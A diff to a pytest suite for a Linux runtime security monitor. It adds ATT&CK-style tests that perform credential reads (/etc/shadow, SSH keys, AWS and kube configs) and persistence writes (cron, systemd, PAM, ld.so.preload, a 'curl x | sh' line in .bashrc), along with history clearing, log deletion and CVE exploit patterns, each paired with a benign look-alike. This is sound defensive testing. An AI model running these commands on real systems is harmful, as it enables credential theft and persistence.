@@ -6,8 +6,8 @@ still make the syscall) and a benign look-alike of it, then checks that the aler
 attributed to the process that did it and to its parent, and that the look-alike raised
 nothing. The look-alike runs first: records reach userspace in order, so once the attack's
 alert is out, the look-alike's events have been evaluated too. The last test runs a busy
-benign workload (gcc, git, pip into a fresh venv, python) and allows no alert from it but
-the one it causes on purpose at its end.
+benign workload (gcc, then the program it built run in /tmp, git, pip into a fresh venv,
+python, dpkg) and allows no alert from it but the one it causes on purpose at its end.
 
 The monitor traces one cgroup (sensor.cgroups) that holds this test process and so every
 process the tests start: the rules need every open on the host, and on a shared machine
@@ -269,9 +269,12 @@ def test_search_private_keys_or_passwords(mon: AlertMonitor, tmp_path: Path) -> 
     d = tmp_path / "home"
     (d / ".ssh").mkdir(parents=True)
     (d / ".ssh" / "id_rsa").write_text("-----BEGIN RSA PRIVATE KEY-----\nxx\n")
-    (d / "notes.txt").write_text("hello password=hunter2\n")
-    benign = [run(["find", str(d), "-name", "*.txt"]), run(["grep", "-r", "hello", str(d)]),
-              run(["grep", "-i", "password", str(d / "notes.txt")])]  # not a recursive hunt
+    (d / "docs").mkdir()
+    (d / "docs" / "notes.txt").write_text("hello password=hunter2\n")
+    benign = [run(["find", str(d), "-name", "*.txt"]), run(["grep", "-r", "hello", str(d / "docs")]),
+              run(["grep", "-i", "password", str(d / "docs" / "notes.txt")]),  # not a recursive hunt
+              # A setting's name is not a password hunt (the issue's benign workflow).
+              run(["grep", "-r", "PasswordAuthentication", "/etc/ssh/"])]
     by_find = run(["find", str(d), "-name", "id_rsa"])
     by_header = run(["grep", "-rl", "BEGIN RSA PRIVATE", str(d)])
     by_password = run(["grep", "-ri", "password", str(d)])
@@ -279,7 +282,8 @@ def test_search_private_keys_or_passwords(mon: AlertMonitor, tmp_path: Path) -> 
     for pid, name in ((by_find, "find"), (by_header, "grep"), (by_password, "grep")):
         a = alert_for(mon, rule, pid, **{"proc.name": name})
         assert_attributed(a, pid, *me())
-    assert_no_alerts(mon, benign, "find *.txt, grep -r hello, grep -i password FILE")
+    assert_no_alerts(mon, benign, "find *.txt, grep -r hello, grep -i password FILE, "
+                                  "grep -r PasswordAuthentication /etc/ssh/")
 
 
 def test_find_aws_credentials(mon: AlertMonitor, tmp_path: Path) -> None:
@@ -287,7 +291,8 @@ def test_find_aws_credentials(mon: AlertMonitor, tmp_path: Path) -> None:
     (d / ".aws").mkdir(parents=True)
     (d / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = x\n")
     (d / ".aws" / "config").write_text("[default]\nregion = eu-west-1\n")
-    benign = [run(["find", str(d), "-name", "config"]), run(["grep", "-r", "region", str(d)])]
+    benign = [run(["find", str(d), "-name", "config"]),
+              run(["grep", "-r", "region", str(d / ".aws" / "config")])]
     by_find = run(["find", str(d), "-path", "*/.aws/credentials"])
     by_grep = run(["grep", "-r", "aws_secret_access_key", str(d)])
     for pid in (by_find, by_grep):
@@ -378,13 +383,60 @@ def test_execution_from_dev_shm_and_temporary_directory(mon: AlertMonitor, tmp_p
         from_tmp = run([str(dropped)])
         a = alert_for(mon, "Execution from /dev/shm", from_shm, **{"proc.exe": str(shm)})
         assert_attributed(a, from_shm, *me())
-        a = alert_for(mon, "Execution from a temporary directory", from_tmp, **{"proc.exe": str(dropped)})
+        a = alert_for(mon, "Drop and execute new binary", from_tmp, **{"proc.exe": str(dropped)})
         assert_attributed(a, from_tmp, *me())
     finally:
         shm.unlink(missing_ok=True)
     # One alert each: /dev/shm is not also reported as a temporary directory.
     assert [x["rule"] for x in alerts(mon) if x["process"]["pid"] == from_shm] == ["Execution from /dev/shm"]
     assert_no_alerts(mon, benign, "/bin/true and /usr/bin/true")
+
+
+def syscall_lane_barrier(mon: RunningMonitor) -> None:
+    """Return once every syscall record made so far has been judged: the syscall lane is
+    in order, so the alert for a later open (cat /etc/shadow) comes after them."""
+    alert_for(mon, "Read sensitive file untrusted", run(["cat", "/etc/shadow"]))
+
+
+@pytest.mark.skipif(shutil.which("gcc") is None, reason="gcc missing: run scripts/setup.sh --test")
+def test_drop_and_execute_new_binary(mon: AlertMonitor, tmp_path: Path) -> None:
+    """Compiled here and run: a build. Copied, downloaded or written by a script and run: a
+    drop, reported with the writer the kernel saw."""
+    (tmp_path / "hello.c").write_text('int main(void) { return 0; }\n')
+    built, moved = tmp_path / "hello", tmp_path / "hello-renamed"
+    subprocess.run(["gcc", "-O0", "-o", str(built), str(tmp_path / "hello.c")], check=True, timeout=120)
+    syscall_lane_barrier(mon)  # see below: the linker's writes are through
+    benign = [run([str(built)])]
+    subprocess.run(["mv", str(built), str(moved)], check=True)  # still the linker's output
+    syscall_lane_barrier(mon)
+    benign.append(run([str(moved)]))
+    by_cp, by_curl, by_python = tmp_path / "by-cp", tmp_path / "by-curl", tmp_path / "by-python"
+    subprocess.run(["cp", "/bin/true", str(by_cp)], check=True)
+    subprocess.run(["curl", "-s", "-o", str(by_curl), "file:///bin/true"], check=True, timeout=60)
+    by_curl.chmod(0o755)
+    wrote = action("open_file", "trunc", str(by_python), "")  # python creates the file ...
+    with open("/bin/true", "rb") as src, open(by_python, "ab") as dst:  # ... and fills it
+        dst.write(src.read())
+    by_python.chmod(0o755)
+    # The execs travel on the process lane, which the sensor drains before the syscall lane:
+    # run them once the writes are through (README, drop and execute). The syscall lane is
+    # in order, so an alert on it for a later open is the barrier.
+    syscall_lane_barrier(mon)
+    rule = "Drop and execute new binary"
+    for path, writer in ((by_cp, "/usr/bin/cp"), (by_curl, "/usr/bin/curl")):
+        pid = run([str(path)])
+        a = alert_for(mon, rule, pid, **{"proc.exepath": str(path)})
+        assert_attributed(a, pid, *me())
+        assert a["event"]["proc.exe_writer_exepath"] == writer, _brief(a)
+        assert 0 <= a["event"]["proc.exe_ino_ctime_duration_proc_start"] < 600 * 10**9
+        assert f"writer={Path(writer).name}" in a["output"]
+    # The last writer the kernel saw was this test process (pytest's interpreter): its append
+    # came after the helper's truncating open.
+    pid = run([str(by_python)])
+    a = alert_for(mon, rule, pid, **{"proc.exepath": str(by_python)})
+    assert a["event"]["proc.exe_writer_pid"] == os.getpid() != wrote["pid"]
+    assert a["event"]["proc.exe_writer_exepath"] == os.path.realpath(sys.executable)
+    assert_no_alerts(mon, benign, "gcc's output run in place and after a rename")
 
 
 def test_fileless_execution_via_memfd(mon: AlertMonitor) -> None:
@@ -549,6 +601,421 @@ def test_disallowed_ssh_connection_non_standard_port(mon: AlertMonitor, listener
     assert_no_alerts(mon, [benign], "ssh -p 22")
 
 
+# --- ATT&CK breadth (issue 14): each behaviour for real, each with a benign look-alike -------
+
+
+def _home(tmp_path: Path) -> Path:
+    """A user's home directory with .ssh, .aws and .kube in it (the rules match by the dotted
+    components, wherever the home is)."""
+    home = tmp_path / "home"
+    for d in (".ssh", ".aws", ".kube", ".config/systemd/user"):
+        (home / d).mkdir(parents=True)
+    return home
+
+
+def rules_of(mon: RunningMonitor, pid: int) -> set[str]:
+    return {a["rule"] for a in alerts(mon) if a["process"]["pid"] == pid}
+
+
+def test_read_ssh_private_key(mon: AlertMonitor, tmp_path: Path) -> None:
+    home = _home(tmp_path)
+    key = home / ".ssh" / "id_ed25519"
+    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n")
+    (home / ".ssh" / "id_ed25519.pub").write_text("ssh-ed25519 AAAA test\n")
+    link = tmp_path / "innocent.txt"  # a canonical path that leads to the key
+    link.symlink_to(key)
+    benign = [run(["cat", str(home / ".ssh" / "id_ed25519.pub")]),
+              run(["ssh-keygen", "-l", "-f", str(key)])]  # the genuine ssh tool
+    bad = run(["cat", str(key)])
+    via_link = run(["cat", str(link)])
+    rule = "Read SSH private key"
+    a = alert_for(mon, rule, bad, **{"fd.name": str(key)})
+    assert_attributed(a, bad, *me())
+    assert "mitre_credential_access" in a["tags"] and "T1552.004" in a["tags"]
+    # Through the symlink: the kernel kept the open for its resolved, dotted path.
+    a = alert_for(mon, rule, via_link, **{"fd.name": str(key)})
+    assert a["event"]["fd.nameraw"] == str(link) and a["event"]["fd.is_resolved"] is True
+    assert_no_alerts(mon, benign, "cat of the public key, ssh-keygen -l of the private key")
+
+
+def test_read_or_write_another_process_memory(mon: AlertMonitor) -> None:
+    target = subprocess.Popen(["sleep", "60"])
+    try:
+        # Its own maps and memory (through /proc/self, resolved to its pid), another's status.
+        benign = action("open_read", "/proc/self/maps", "/proc/self/mem", f"/proc/{target.pid}/status")
+        bad = action("open_read", f"/proc/{target.pid}/maps", f"/proc/{target.pid}/mem")
+    finally:
+        target.kill()
+        target.wait()
+    assert bad["results"][0] == 0, bad  # reading mem at offset 0 fails (EIO); the open did not
+    rule = "Read or write another process's memory"
+    for what in ("maps", "mem"):
+        a = alert_for(mon, rule, bad["pid"], **{"fd.name": f"/proc/{target.pid}/{what}"})
+        assert_attributed(a, bad["pid"], *me())
+        assert a["event"]["fd.proc_pid"] == target.pid
+    assert_no_alerts(mon, [benign["pid"]], "its own /proc/self/maps and mem, another's status")
+
+
+def test_read_cloud_credentials(mon: AlertMonitor, tmp_path: Path) -> None:
+    home = _home(tmp_path)
+    creds = home / ".aws" / "credentials"
+    creds.write_text("[default]\naws_secret_access_key = x\n")
+    kube = home / ".kube" / "config"
+    kube.write_text("apiVersion: v1\n")
+    lookalike = tmp_path / "aws" / "credentials"  # not in a dotted directory
+    lookalike.parent.mkdir()
+    lookalike.write_text("x\n")
+    (home / ".aws" / "config").write_text("[default]\nregion = eu-west-1\n")
+    benign = [run(["cat", str(lookalike)]), run(["cat", str(home / ".aws" / "config")])]
+    bad = [run(["cat", str(creds)]), run(["cp", str(kube), str(tmp_path / "stolen")])]
+    for pid, path in zip(bad, (creds, kube), strict=True):
+        a = alert_for(mon, "Read cloud credentials", pid, **{"fd.name": str(path)})
+        assert_attributed(a, pid, *me())
+    assert_no_alerts(mon, benign, "credentials outside a dotted directory, ~/.aws/config")
+
+
+def test_schedule_cron_jobs(mon: AlertMonitor, tmp_path: Path) -> None:
+    job = Path(f"/etc/cron.d/rw-test-{uuid.uuid4().hex[:8]}")
+    lookalike = tmp_path / "etc" / "cron.d"
+    lookalike.mkdir(parents=True)
+    try:
+        benign = [run(["cat", "/etc/cron.d/e2scrub_all"]),
+                  run(["/bin/sh", "-c", f"echo '# x' > {lookalike}/job"])]
+        bad = run(["/bin/sh", "-c", f"echo '# ringwatch test, harmless' > {job}"])
+        a = alert_for(mon, "Schedule cron jobs", bad, **{"fd.name": str(job)})
+        assert_attributed(a, bad, *me())
+        assert "T1053.003" in a["tags"]
+    finally:
+        job.unlink(missing_ok=True)
+    assert rules_of(mon, bad) == {"Schedule cron jobs"}  # not also "Write below etc"
+    assert_no_alerts(mon, benign, "reading a cron file, writing a look-alike elsewhere")
+
+
+def test_create_systemd_unit_and_timer(mon: AlertMonitor, tmp_path: Path) -> None:
+    home = _home(tmp_path)
+    timer = Path(f"/etc/systemd/system/rw-test-{uuid.uuid4().hex[:8]}.timer")
+    user_unit = home / ".config" / "systemd" / "user" / "rw-test.service"
+    try:
+        benign = [run(["cat", "/lib/systemd/system/systemd-journald.service"]),
+                  run(["/bin/sh", "-c", f"echo x > {home}/rw-test.service"])]
+        bad = run(["/bin/sh", "-c", f"echo '# ringwatch test' > {timer}"])
+        by_python = action("open_file", "create", str(user_unit), "[Service]\n")
+        rule = "Create or modify systemd unit or timer"
+        a = alert_for(mon, rule, bad, **{"fd.name": str(timer)})
+        assert_attributed(a, bad, *me())
+        a = alert_for(mon, rule, by_python["pid"], **{"fd.name": str(user_unit)})
+        assert_attributed(a, by_python["pid"], *me())
+    finally:
+        timer.unlink(missing_ok=True)
+    assert rules_of(mon, bad) == {rule}
+    assert_no_alerts(mon, benign, "reading a unit, a .service file outside the unit dirs")
+
+
+def test_modify_shell_configuration_file(mon: AlertMonitor, tmp_path: Path) -> None:
+    home = _home(tmp_path)
+    for rc in (".bashrc", ".profile"):
+        (home / rc).write_text("# rc\n")
+    benign = [run(["/bin/bash", "-c", f"echo 'alias ll=ls' >> {home}/.bashrc"]),  # a shell
+              run(["cat", str(home / ".bashrc")]),
+              run(["cp", str(home / ".bashrc"), str(home / "bashrc.bak")])]
+    by_python = action("open_file", "append", str(home / ".bashrc"), "curl x | sh\n")
+    by_sed = run(["sed", "-i", "s/rc/rc2/", str(home / ".profile")])  # temp file renamed over
+    rule = "Modify shell configuration file"
+    a = alert_for(mon, rule, by_python["pid"], **{"fd.name": str(home / ".bashrc")})
+    assert_attributed(a, by_python["pid"], *me())
+    a = alert_for(mon, rule, by_sed, **{"fd.name": str(home / ".profile")})
+    assert a["event"]["evt.type"].startswith("rename")
+    assert_no_alerts(mon, benign, "bash appending to .bashrc, cat, cp to a backup")
+
+
+def test_modify_system_shell_profile(mon: AlertMonitor) -> None:
+    script = Path(f"/etc/profile.d/rw-test-{uuid.uuid4().hex[:8]}.sh")
+    try:
+        benign = [run(["cat", "/etc/profile"])]
+        bad = run(["/bin/sh", "-c", f"echo '# ringwatch test' > {script}"])
+        a = alert_for(mon, "Modify system shell profile", bad, **{"fd.name": str(script)})
+        assert_attributed(a, bad, *me())
+    finally:
+        script.unlink(missing_ok=True)
+    assert rules_of(mon, bad) == {"Modify system shell profile"}
+    assert_no_alerts(mon, benign, "reading /etc/profile")
+
+
+def test_modify_ssh_authorized_keys(mon: AlertMonitor, tmp_path: Path) -> None:
+    home = _home(tmp_path)
+    benign = [action("open_file", "create", str(home / ".ssh" / "known_hosts"), "h k\n")["pid"],
+              run(["cat", "/dev/null"])]
+    bad = action("open_file", "create", str(home / ".ssh" / "authorized_keys"), "ssh-ed25519 AAAA x\n")
+    a = alert_for(mon, "Modify SSH authorized_keys", bad["pid"],
+                  **{"fd.name": str(home / ".ssh" / "authorized_keys")})
+    assert_attributed(a, bad["pid"], *me())
+    assert "T1098.004" in a["tags"]
+    assert_no_alerts(mon, benign, "writing known_hosts")
+
+
+def test_modify_ld_so_preload(mon: AlertMonitor) -> None:
+    preload = Path("/etc/ld.so.preload")
+    existed = preload.exists()
+    benign = action("open_file", "read", str(preload))  # reading it is what ld.so does
+    try:
+        # O_APPEND and no data: an empty or unchanged file preloads nothing.
+        bad = action("open_file", "create", str(preload))
+        assert bad["ret"] == 0, bad
+    finally:
+        if not existed:
+            preload.unlink(missing_ok=True)
+    a = alert_for(mon, "Modify ld.so.preload", bad["pid"], **{"fd.name": str(preload)})
+    assert_attributed(a, bad["pid"], *me())
+    assert a["priority"] == "CRITICAL"
+    assert rules_of(mon, bad["pid"]) == {"Modify ld.so.preload"}
+    assert_no_alerts(mon, [benign["pid"]], "reading /etc/ld.so.preload")
+
+
+def test_modify_pam_configuration_and_module(mon: AlertMonitor) -> None:
+    tag = uuid.uuid4().hex[:8]
+    conf = Path(f"/etc/pam.d/rw-test-{tag}")  # a service nothing is named after
+    mod_dir = Path("/usr/lib/x86_64-linux-gnu/security")
+    module = mod_dir / f"rw-test-{tag}.so"
+    try:
+        benign = [run(["cat", str(mod_dir / "pam_deny.so")])]
+        by_sh = run(["/bin/sh", "-c", f"echo '# ringwatch test' > {conf}"])
+        by_cp = run(["cp", "/bin/true", str(module)])
+        rule = "Modify PAM configuration or module"
+        a = alert_for(mon, rule, by_sh, **{"fd.name": str(conf)})
+        assert_attributed(a, by_sh, *me())
+        a = alert_for(mon, rule, by_cp, **{"fd.name": str(module)})
+        assert_attributed(a, by_cp, *me())
+    finally:
+        conf.unlink(missing_ok=True)
+        module.unlink(missing_ok=True)
+    assert rules_of(mon, by_sh) == {rule}
+    assert_no_alerts(mon, benign, "reading a PAM module")
+
+
+def test_account_creation_and_account_database_write(mon: AlertMonitor) -> None:
+    user = f"rwt{uuid.uuid4().hex[:8]}"
+    benign = [run(["getent", "passwd", "root"]), run(["id", "root"])]
+    added = run(["useradd", "-M", "-N", "-s", "/usr/sbin/nologin", user])
+    try:
+        # O_APPEND with nothing written: what `echo ... >> /etc/passwd` opens.
+        appended = run(["/bin/sh", "-c", ": >> /etc/passwd"])
+    finally:
+        run(["userdel", user])  # clean-up (it runs after the checked events: not judged here)
+    a = alert_for(mon, "User account created", added)
+    assert_attributed(a, added, *me())
+    assert a["event"]["proc.exepath"] == "/usr/sbin/useradd"
+    a = alert_for(mon, "Write to account database", appended, **{"fd.name": "/etc/passwd"})
+    assert_attributed(a, appended, *me())
+    assert rules_of(mon, appended) == {"Write to account database"}
+    # useradd's and userdel's own writes to /etc/passwd are theirs to make.
+    assert rules_of(mon, added) == {"User account created"}
+    assert_no_alerts(mon, benign, "getent, id")
+
+
+def test_clear_shell_history(mon: AlertMonitor, tmp_path: Path) -> None:
+    home = _home(tmp_path)
+    hist = home / ".bash_history"
+    for name in (".bash_history", ".python_history", ".bash_history.bak"):
+        (home / name).write_text("ls\n")
+    benign = [run(["/bin/sh", "-c", f"echo pwd >> {hist}"]),  # a shell saving history
+              run(["rm", str(home / ".bash_history.bak")])]
+    truncated = run(["cp", "/dev/null", str(hist)])
+    removed = run(["rm", str(home / ".python_history")])
+    linked = run(["ln", "-s", "/dev/null", str(home / ".zsh_history")])
+    rule = "Clear shell history"
+    for pid, evt in ((truncated, "open"), (removed, "unlink"), (linked, "symlink")):
+        a = alert_for(mon, rule, pid)
+        assert_attributed(a, pid, *me())
+        assert a["event"]["evt.type"].startswith(evt), _brief(a)
+    assert_no_alerts(mon, benign, "appending to history, deleting a backup")
+
+
+def test_delete_log_files(mon: AlertMonitor, tmp_path: Path) -> None:
+    log = Path(f"/var/log/rw-test-{uuid.uuid4().hex[:8]}.log")
+    log.write_text("x\n")
+    lookalike = tmp_path / "var" / "log" / "x.log"
+    lookalike.parent.mkdir(parents=True)
+    lookalike.write_text("x\n")
+    try:
+        benign = [run(["rm", str(lookalike)])]
+        bad = run(["rm", str(log)])
+        a = alert_for(mon, "Delete log files", bad, **{"fd.name": str(log)})
+        assert_attributed(a, bad, *me())
+    finally:
+        log.unlink(missing_ok=True)
+    assert_no_alerts(mon, benign, "deleting a file in a var/log look-alike")
+
+
+def test_create_hidden_file_in_system_directory(mon: AlertMonitor, tmp_path: Path) -> None:
+    tag = uuid.uuid4().hex[:8]
+    hidden_bin = Path(f"/usr/bin/.rw-test-{tag}")
+    hidden_shm = Path(f"/dev/shm/.rw-test-{tag}")
+    visible_shm = Path(f"/dev/shm/rw-test-{tag}")
+    try:
+        benign = [run(["touch", str(visible_shm)]), run(["touch", str(tmp_path / ".hidden")])]
+        by_cp = run(["cp", "/bin/true", str(hidden_bin)])
+        by_touch = run(["touch", str(hidden_shm)])
+        rule = "Create hidden file in a system directory"
+        for pid, path in ((by_cp, hidden_bin), (by_touch, hidden_shm)):
+            a = alert_for(mon, rule, pid, **{"fd.name": str(path)})
+            assert_attributed(a, pid, *me())
+    finally:
+        for p in (hidden_bin, hidden_shm, visible_shm):
+            p.unlink(missing_ok=True)
+    assert_no_alerts(mon, benign, "a visible file in /dev/shm, a dotfile in a user directory")
+
+
+def test_set_setuid_or_setgid_bit(mon: AlertMonitor, tmp_path: Path) -> None:
+    target = tmp_path / "rootshell"
+    shutil.copy("/bin/true", target)
+    benign = [run(["chmod", "755", str(target)]), run(["chmod", "+t", str(tmp_path)])]
+    suid = run(["chmod", "u+s", str(target)])
+    sgid = run(["chmod", "2755", str(target)])
+    rule = "Set setuid or setgid bit"
+    for pid, bits in ((suid, 0o4000), (sgid, 0o2000)):
+        a = alert_for(mon, rule, pid, **{"fd.name": str(target)})
+        assert_attributed(a, pid, *me())
+        assert a["event"]["evt.arg.mode"] & bits, _brief(a)
+    assert_no_alerts(mon, benign, "chmod 755, the sticky bit")
+
+
+def test_delete_or_rename_system_binary(mon: AlertMonitor, tmp_path: Path) -> None:
+    tag = uuid.uuid4().hex[:8]
+    binary = Path(f"/usr/local/bin/rw-test-{tag}")
+    moved = Path(f"/usr/local/bin/rw-test-{tag}-old")
+    lookalike = tmp_path / "usr" / "bin" / "tool"
+    lookalike.parent.mkdir(parents=True)
+    shutil.copy("/bin/true", lookalike)
+    shutil.copy("/bin/true", binary)
+    try:
+        benign = [run(["rm", str(lookalike)])]
+        renamed = run(["mv", str(binary), str(moved)])
+        removed = run(["rm", str(moved)])
+        rule = "Delete or rename system binary"
+        a = alert_for(mon, rule, renamed, **{"evt.arg.oldpath": str(binary)})
+        assert_attributed(a, renamed, *me())
+        a = alert_for(mon, rule, removed, **{"fd.name": str(moved)})
+        assert_attributed(a, removed, *me())
+    finally:
+        binary.unlink(missing_ok=True)
+        moved.unlink(missing_ok=True)
+    assert_no_alerts(mon, benign, "rm in a usr/bin look-alike")
+
+
+def test_process_masquerading(mon: AlertMonitor, private_dir: Path, listener: Listener) -> None:
+    fake = private_dir / "sshd"  # /bin/true under a daemon's name, outside the system dirs
+    shutil.copy("/bin/true", fake)
+    with installed_as("sshd") as genuine:  # the name and the image agree, in /usr/lib
+        benign = [run([str(genuine), "-c", "pass"]),
+                  action("renamed_connect", "rw-client", str(listener.port))["pid"]]
+    by_exec = run([str(fake)])
+    renamed = action("renamed_connect", "kworker/0:1", str(listener.port))
+    rule = "Process masquerading as a kernel thread or system daemon"
+    a = alert_for(mon, rule, by_exec, **{"proc.name": "sshd"})
+    assert_attributed(a, by_exec, *me())
+    assert a["event"]["proc.exepath"] == str(fake)
+    a = alert_for(mon, rule, renamed["pid"], **{"evt.type": "connect", "proc.name": "kworker/0:1"})
+    assert_attributed(a, renamed["pid"], *me())
+    assert a["event"]["proc.exepath"] == os.path.realpath(sys.executable)
+    assert_no_alerts(mon, benign, "a genuine sshd image, a renamed client with a plain name")
+
+
+def test_execution_of_deleted_binary(mon: AlertMonitor, private_dir: Path) -> None:
+    benign = run(["/bin/true"])
+    bad = action("exec_deleted", str(private_dir / "payload"))
+    a = alert_for(mon, "Execution of a deleted binary", bad["pid"])
+    assert a["event"]["proc.exe_deleted"] is True and a["event"]["evt.type"] == "execveat"
+    assert_attributed(a, bad["pid"], bad["ppid"], HELPER_COMM)
+    assert_no_alerts(mon, [benign], "/bin/true")
+
+
+@pytest.mark.skipif(shutil.which("nmap") is None, reason="nmap missing: run scripts/setup.sh --test")
+def test_network_scanner_launched(mon: AlertMonitor, private_dir: Path, listener: Listener) -> None:
+    renamed = private_dir / "healthcheck"  # a link with another name: the image is nmap's
+    renamed.symlink_to(os.path.realpath(shutil.which("nmap") or "nmap"))
+    port = str(listener.port)
+    benign = [run(["nc.traditional", "-z", "-w", "5", "127.0.0.1", port])]
+    scan = ["-n", "-Pn", "-sT", "-p", port, "127.0.0.1"]
+    by_name = run(["nmap", *scan])
+    by_exe = run([str(renamed), *scan])
+    rule = "Network scanner launched"
+    a = alert_for(mon, rule, by_name, **{"proc.name": "nmap"})
+    assert_attributed(a, by_name, *me())
+    a = alert_for(mon, rule, by_exe, **{"proc.name": "healthcheck"})
+    assert a["event"]["proc.exepath"].endswith("/nmap")
+    assert_no_alerts(mon, benign, "nc -z")
+
+
+def test_sudoedit_and_pkexec_exploit_patterns(mon: AlertMonitor, private_dir: Path) -> None:
+    # Stand-ins with the programs' names (sudo and polkit are not installed here): what the
+    # rules judge is the exec the kernel saw, its image name and its arguments.
+    sudoedit, pkexec = private_dir / "sudoedit", private_dir / "pkexec"
+    for p in (sudoedit, pkexec):
+        shutil.copy("/bin/true", p)
+    benign = [run([str(sudoedit), "/etc/motd"]), run([str(pkexec), "--version"])]
+    baron = run([str(sudoedit), "-s", "\\", "AAAA"])
+    pwnkit = action("exec_empty_argv", str(pkexec))
+    a = alert_for(mon, "Sudoedit heap overflow attempt (CVE-2021-3156)", baron)
+    assert_attributed(a, baron, *me())
+    a = alert_for(mon, "Pkexec run with an empty argument list (CVE-2021-4034)", pwnkit["pid"])
+    assert a["event"]["proc.argv"] == []
+    assert_attributed(a, pwnkit["pid"], pwnkit["ppid"], HELPER_COMM)
+    assert_no_alerts(mon, benign, "sudoedit FILE, pkexec --version")
+
+
+def test_cryptocurrency_miner_arguments_and_pool_port(mon: AlertMonitor, listener: Listener) -> None:
+    benign = [run(["/bin/true", "--url", "https://pool.example.invalid/", "-u", "me"]),
+              action("connect_tcp", str(listener.port))["pid"]]
+    miner = run(["/bin/true", "-o", "stratum+tcp://pool.example.invalid:3333", "-u", "wallet"])
+    pool = action("connect_tcp", "3333")  # refused or not: the attempt counts
+    a = alert_for(mon, "Cryptocurrency miner arguments", miner)
+    assert_attributed(a, miner, *me())
+    a = alert_for(mon, "Connection to a mining pool port", pool["pid"], **{"fd.rport": 3333})
+    assert_attributed(a, pool["pid"], *me())
+    assert "T1496" in a["tags"]
+    assert_no_alerts(mon, benign, "an https URL argument, a connection to another port")
+
+
+def test_nsenter_into_pid_1(mon: AlertMonitor) -> None:
+    target = subprocess.Popen(["sleep", "60"])
+    try:
+        benign = [run(["nsenter", "-t", str(target.pid), "-u", "--", "true"])]
+        bad = run(["nsenter", "-t", "1", "-m", "-u", "--", "true"])
+    finally:
+        target.kill()
+        target.wait()
+    a = alert_for(mon, "Enter the host's namespaces with nsenter", bad)
+    assert_attributed(a, bad, *me())
+    assert_no_alerts(mon, benign, "nsenter into another process")
+
+
+def test_container_runtime_socket_accessed(mon: AlertMonitor) -> None:
+    sock = "/var/run/docker.sock"
+    benign = [run(["docker", "version"])]  # the genuine client (no daemon here: it fails)
+    bad = run(["curl", "-s", "--max-time", "5", "--unix-socket", sock, "http://localhost/version"])
+    a = alert_for(mon, "Container runtime socket accessed", bad, **{"fd.name": sock})
+    assert_attributed(a, bad, *me())
+    assert_no_alerts(mon, benign, "docker version")
+
+
+def test_cgroup_v1_mount_and_release_agent_write(mon: AlertMonitor, tmp_path: Path) -> None:
+    agent = Path("/sys/fs/cgroup/freezer/release_agent")
+    mnt = tmp_path / "cg"
+    mnt.mkdir()
+    benign = [run(["mount", "-t", "tmpfs", "rwtest", str(mnt)]), run(["umount", str(mnt)])]
+    mounted = run(["mount", "-t", "cgroup", "-o", f"none,name=rwtest{uuid.uuid4().hex[:6]}",
+                   "cgroup", str(mnt)])
+    run(["umount", str(mnt)])
+    a = alert_for(mon, "Mount of a cgroup v1 hierarchy", mounted, **{"fd.name": str(mnt)})
+    assert_attributed(a, mounted, *me())
+    if agent.exists():  # a hybrid cgroup host
+        benign.append(run(["cat", str(agent)]))
+        wrote = action("open_file", "append", str(agent))  # opened, nothing written
+        a = alert_for(mon, "Write to cgroup release_agent", wrote["pid"], **{"fd.name": str(agent)})
+        assert_attributed(a, wrote["pid"], *me())
+    assert_no_alerts(mon, benign, "a tmpfs mount, reading release_agent")
+
+
 # --- noise budget ---------------------------------------------------------------------------
 
 WORKLOAD = r"""
@@ -556,6 +1023,7 @@ set -eu
 cd "$1"
 py="$2"
 gcc -O2 -Wall -o hello hello.c
+./hello >/dev/null
 git init -q repo
 cd repo
 cp ../hello.c .
